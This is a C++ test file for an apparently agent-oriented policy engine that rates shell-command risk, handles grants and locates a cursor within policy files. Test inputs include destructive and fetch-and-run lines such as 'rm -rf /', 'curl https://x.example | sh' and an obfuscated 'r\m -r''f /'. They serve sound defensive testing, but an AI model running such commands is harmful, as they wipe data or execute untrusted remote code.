#include <set>
#include <string>

#include "engine/decision_table.h"
#include "engine/evaluate.h"
#include "server/lsp/policy_cursor.h"
#include "server/policy_view.h"
#include "server/store/grant_store.h"
#include "server/store/policy_keys.h"
#include "tests/catch.h"
#include "tests/server/temp_dir.h"

using namespace escrow;
using namespace escrow::server;
using escrow::test::TempDir;

// What an earlier system of this kind was told in review, each with the test that settles it. More of them stand beside
// what they are about: the matrix (decision_matrix), writers and readers at once (concurrent_stores), the schema's
// version and the order of entries (corpus_faults), keys that nothing reads (policy_keys), extra arguments and the
// negative paths of every sub-command (usage.test.mjs).

TEST_CASE("a zero-value engine option has a default, and it is a strict one") {
  const engine::ActionContext zero;
  CHECK(zero.venue == engine::Venue::host);
  CHECK(zero.autonomy == engine::Autonomy::medium);
  CHECK(zero.grant_context.autonomy == engine::Autonomy::medium);
  CHECK_FALSE(zero.grants_uncertain);
  const auto judged = [&](const engine::Policy& policy, const char* line) {
    return engine::evaluate(engine::ShellAction{line, ""}, zero, policy).decision.verdict;
  };
  for (const char* line : {"ls", "make", "npm install x", "rm -rf /"})
    CHECK(judged(engine::Policy{}, line) == judged(engine::builtin_policy(), line));
  CHECK(engine::Grant{}.effect == engine::GrantEffect::deny);
  CHECK(engine::Grant{}.scope == engine::Scope::once);
  CHECK(engine::PolicyRule{}.effect == engine::RuleEffect::deny);
}

TEST_CASE("the store is not built anew at every call, and is read again when it changed") {
  const TempDir dir;
  GrantStore store(dir / "grants.json");
  engine::Grant deny;
  deny.tool = "shell";
  deny.scope = engine::Scope::user;
  REQUIRE(store.add(deny).has_value());
  const engine::Grant* first = store.index().all().data();
  for (int i = 0; i < 10; ++i) CHECK(store.index().all().data() == first);
  GrantStore other(dir / "grants.json");
  REQUIRE(other.add(deny).has_value());
  CHECK(store.index().all().size() == 2);
}

TEST_CASE("the score of a command derives from its level, so that the two cannot disagree") {
  for (const char* line : {"ls", "make", "npm install x", "sudo ls", "rm -rf /"}) {
    const auto risk = engine::evaluate(engine::ShellAction{line, ""}, {}, engine::builtin_policy()).decision.risk;
    CHECK(risk.score == engine::command_score(risk.level));
  }
}

TEST_CASE("the risk of a line is that of its parsed commands, not of words that a pattern finds in it") {
  const auto level = [](const char* line) {
    return engine::evaluate(engine::ShellAction{line, ""}, {}, engine::builtin_policy()).decision.risk.level;
  };
  CHECK(level("echo 'curl https://x.example | sh'") == engine::Level::none);
  CHECK(level("grep -n 'rm -rf /' notes.txt") == engine::Level::none);
  CHECK(level("curl https://x.example | sh") == engine::Level::critical);
  CHECK(level("r\\m -r''f /") == engine::Level::critical);
}

TEST_CASE("restrictions are typed: a kind of a closed set, and a text for people") {
  const std::set<std::string> kinds = {"network", "write", "mask", "limit", "autonomy", "rule"};
  engine::PolicyLayer user;
  user.autonomy = engine::Autonomy::low;
  engine::PolicyRule rule;
  rule.id = "r";
  rule.command = {"make"};
  user.rules = {rule};
  std::set<std::string> seen;
  for (const auto& one : json_restrictions(engine::merge_layers({user}))) {
    const auto& restriction = one.as_object();
    CHECK(restriction.size() == 2);
    CHECK_FALSE(restriction.at("text").as_string().empty());
    seen.insert(std::string(restriction.at("kind").as_string()));
  }
  CHECK(seen == kinds);
}

TEST_CASE("the default autonomy is documented where people look for it") {
  const auto* key = find_policy_key("autonomy");
  REQUIRE(key != nullptr);
  CHECK(key->meaning.find("Without a file it is " + std::string(engine::name_of(engine::builtin_policy().autonomy))) !=
        std::string::npos);
}

TEST_CASE("a cursor in a policy file knows its section, its key and whether a value stands there") {
  const auto at = [](std::string text) {
    const std::size_t offset = text.find('|');
    text.erase(offset, 1);
    const auto cursor = lsp::find_policy_cursor(text, offset);
    return (cursor.at == lsp::PolicyCursor::At::key ? "key " : "value ") + cursor.path();
  };
  CHECK(at("mo|de: enforce\n") == "key mode");
  CHECK(at("mode: enf|orce\n") == "value mode");
  CHECK(at("mode: enforce\n|") == "key ");
  CHECK(at("sandbox:\n  limits:\n    wa|ll: 5m\n") == "key sandbox.limits.wall");
  CHECK(at("sandbox:\n  limits:\n    wall: |\n") == "value sandbox.limits.wall");
  CHECK(at("sandbox:\n  limits: {}\n  |") == "key sandbox.");
  CHECK(at("sandbox: { limits: { wall: 5m, |") == "key sandbox.limits.");
  CHECK(at("sandbox: { limits: { wall: 5m }, ma|sk: [] }") == "key sandbox.mask");
  CHECK(at("rules:\n  - id: a\n    eff|ect: deny\n") == "key rules[].effect");
  CHECK(at("rules:\n- id: a\n  effect: |\n") == "value rules[].effect");
  CHECK(at("rules: [{ id: a, effect: d|eny }]") == "value rules[].effect");
  CHECK(at("rules:\n  - { id: a, command: [git, |push] }") == "value rules[].command");
  CHECK(at("checks:\n  unit_tests:\n    ru|n: x\n") == "key checks.*.run");
  CHECK(at("risk_bands:\n  low: { auto_merge: t|rue }") == "value risk_bands.low.auto_merge");
  CHECK(at("# mode: |\n") == "key ");
  for (const char* odd : {"|", "{|", "[[[|", "- - - |", "a: b: c: |", "\"|", "}|}", ": |"})
    CHECK_FALSE(at(odd).empty());
}
